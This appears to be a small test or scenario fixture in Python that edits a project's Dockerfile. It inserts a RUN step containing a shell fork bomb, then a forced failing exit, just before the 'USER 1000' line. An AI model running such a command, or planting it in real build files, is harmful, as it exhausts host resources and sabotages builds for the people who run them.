def make(folder, _notebook):
    path = folder / "project" / "Dockerfile"
    path.write_text(path.read_text().replace("USER 1000\n", 'RUN sh -c "f() { f | f & }; f; sleep 5; exit 1"\n' + "USER 1000\n"))
